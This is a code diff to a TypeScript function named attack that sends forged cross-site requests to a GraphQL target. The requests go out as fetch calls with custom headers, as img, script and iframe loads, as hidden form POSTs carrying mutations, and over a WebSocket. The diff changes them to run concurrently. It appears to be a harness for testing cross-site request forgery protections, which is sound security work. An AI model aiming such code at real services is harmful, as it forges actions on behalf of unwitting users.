@@ -94,8 +94,6 @@ async function attack(target: string): Promise<string[]> {
     const custom = { 'apollo-require-preflight': '1', 'idempotency-key': '1', 'x-requested-with': '1', 'content-type': 'application/json' }
     tried(`${method} ${path} custom headers`, fetch(target + path, { ...sent, headers: custom }))
   }
-  await Promise.all(sends)
-
   const loaded = (element: HTMLImageElement | HTMLScriptElement | HTMLIFrameElement, path: string) =>
     new Promise<void>((resolve) => {
       element.onload = element.onerror = () => resolve()
@@ -105,7 +103,7 @@ async function attack(target: string): Promise<string[]> {
       document.body.append(element)
     })
   for (const [method, path] of calls)
-    if (method === 'GET') for (const kind of ['img', 'script', 'iframe'] as const) await loaded(document.createElement(kind), path)
+    if (method === 'GET') for (const kind of ['img', 'script', 'iframe'] as const) sends.push(loaded(document.createElement(kind), path))
 
   for (const [method, path, body] of calls) {
     if (method !== 'POST') continue
@@ -120,12 +118,16 @@ async function attack(target: string): Promise<string[]> {
       else Object.assign(field, { name: 'query', value: mutation })
       form.append(field)
       document.body.append(frame, form)
-      await new Promise<void>((resolve) => {
-        frame.onload = () => resolve()
-        form.submit()
-      })
+      // The empty document of a new frame has loaded as soon as it is in the page; what loads from here on is the answer.
+      sends.push(
+        new Promise<void>((resolve) => {
+          frame.onload = () => resolve()
+          form.submit()
+        }),
+      )
     }
   }
+  await Promise.all(sends)
 
   await new Promise<void>((resolve) => {
     const socket = new WebSocket(`${target.replace('http', 'ws')}/graphql`, 'graphql-transport-ws')
